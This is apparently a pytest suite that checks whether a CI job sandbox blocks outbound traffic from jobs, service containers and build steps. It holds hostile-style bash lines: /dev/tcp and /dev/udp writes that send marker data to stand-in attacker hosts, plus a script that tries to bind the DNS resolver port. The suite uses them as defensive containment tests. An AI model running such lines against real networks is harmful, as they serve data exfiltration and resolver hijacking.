"""A job with a list of what it reaches, and beside it a service container and a BuildKit.

Each of the three gets its names from the job's resolver, and reaches what the list has.
"""

import os
import signal
import uuid
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from tests.attacks.attacker import Attacker, attacker, run
from tests.attacks.outside import EVIL, EVIL_RESOLVER, Outside, outside
from tests.attacks.test_image_builds import ROOTFS, builders_container, in_step
from tests.attacks.test_services import SERVE, service_of
from tests.lab import builder, launcher
from tests.lab.engine import ended, eventually
from tests.lab.lab import DELETE_RULESET, Lab, fleet
from tests.lab.leftovers import leftovers

pytestmark = pytest.mark.lab

RULE = """  - name: all
    allow:
      builds: buildkit
      image: '{clients}'
      egress: {{hosts: ["*.allowed.example"]}}
      services: {{web: {{image: '{image}', command: {serve}, ready: http:8000}}}}
"""
Tries = Callable[[str], str]


@pytest.fixture(scope="module")
def hosts() -> Iterator[Outside]:
    with outside() as made:
        yield made


@pytest.fixture(scope="module")
def job(lab: Lab, hosts: Outside, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacker]:
    launcher.builder()
    clients = builder.clients_image(lab.docker, lab.image)
    settings = f'[builds]\nimage = "{builder.builder_image(lab.docker, lab.image)}"\n'
    with fleet(lab, tmp_path_factory.mktemp("beside") / "fleet", settings=settings) as made:
        made.policy(RULE.format(clients=clients, image=lab.image, serve=SERVE))
        with attacker(made) as running:
            prepared = running.tries(ROOTFS, 60)
            assert prepared.returncode == 0, prepared.stderr
            yield running


@pytest.fixture(params=["job", "service", "step"])
def place(request: pytest.FixtureRequest, job: Attacker) -> Tries:
    """Return what runs a script of bash there and returns its output."""
    places: dict[str, Tries] = {
        "job": lambda script: job.tries(script).stdout,
        "service": lambda script: service_of(job).tries(script).stdout,
        "step": lambda script: in_step(job, script),
    }
    return places[request.param]


def send(host: str, content: str, port: int = 80) -> str:
    return f"exec 3<>/dev/tcp/{host}/{port} && echo {content} >&3; echo tried"


def test_an_allowed_name_is_reached(place: Tries, hosts: Outside) -> None:
    mark = uuid.uuid4().hex
    output = place(send("git.allowed.example", mark))
    eventually(lambda: hosts.has(mark), f"this arrives: {output}", 5)


def test_nothing_else_is_reached(place: Tries, hosts: Outside) -> None:
    mark = uuid.uuid4().hex
    script = "; ".join((
        send(EVIL, mark), send(EVIL_RESOLVER, mark, 53), send(f"{mark}.evil.example", mark),
        f"echo {mark} >/dev/udp/{EVIL}/443", f"echo {mark} >/dev/udp/{EVIL_RESOLVER}/53",
    ))  # fmt: skip
    assert "tried" in place(script)
    assert not hosts.has(mark)
    assert not hosts.was_asked(mark)


LISTEN = """
python3 - <<'PY' 2>&1
import socket
for address in ("127.0.0.53", "0.0.0.0", "::ffff:127.0.0.53", "::"):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            try:
                one = socket.socket(family, kind)
                if option:
                    one.setsockopt(socket.SOL_SOCKET, option, 1)
                if family == socket.AF_INET6:
                    one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
                one.bind((address, 53))
                if kind == socket.SOCK_STREAM:
                    one.listen()
                print("LISTENS", address, kind, option)
                one.close()
            except OSError as refused:
                print(refused)
PY
echo tried
"""


def test_nobody_takes_the_place_of_the_resolver(job: Attacker) -> None:
    for output in (job.tries(LISTEN).stdout, service_of(job).tries(LISTEN).stdout):
        assert "tried" in output
        assert "LISTENS" not in output, output


def with_descriptors_of(process: int) -> list[int]:
    """Return who has a descriptor of this process, by its pid here, once for each descriptor."""
    found = []
    for path in Path("/proc").glob("[0-9]*/fdinfo/*"):
        with suppress(OSError):
            if f"Pid:\t{process}\n" in path.read_text():
                found.append(int(path.parts[2]))
    return found


def test_a_breach_of_the_protection_ends_all(job: Attacker) -> None:
    docker = ("docker", "-H", job.fleet.lab.docker)
    first = int(run(*docker, "inspect", "-f", "{{.State.Pid}}", builders_container(job)))
    service = service_of(job).pid
    # One of whoever waits for its end, and one of the guard, which does not wait for the lease.
    assert len(with_descriptors_of(service)) == len(with_descriptors_of(first)) == 2
    run(*DELETE_RULESET)
    eventually(lambda: ended(service) and ended(first), "both are killed", 10)
    job.fleet.control.finished(job.job)
    assert b"table inet airlock was changed or removed" in job.job.log


def test_a_killed_wrapper_leaves_none_of_them(job: Attacker) -> None:
    eventually(lambda: not leftovers(job.fleet), "the job before has been cleared")
    gone: list[int] = []
    with suppress(Exception), attacker(job.fleet) as killed:
        docker = ("docker", "-H", job.fleet.lab.docker)
        builders = builders_container(killed)
        first = int(run(*docker, "inspect", "-f", "{{.State.Pid}}", builders))
        processes = [killed.pid, service_of(killed).pid, first]
        (wrapper,) = set(with_descriptors_of(first))
        os.kill(wrapper, signal.SIGKILL)
        eventually(lambda: all(map(ended, processes)), "all three are killed")
        gone.append(wrapper)
    assert gone
    eventually(lambda: not leftovers(job.fleet), "nothing is left")
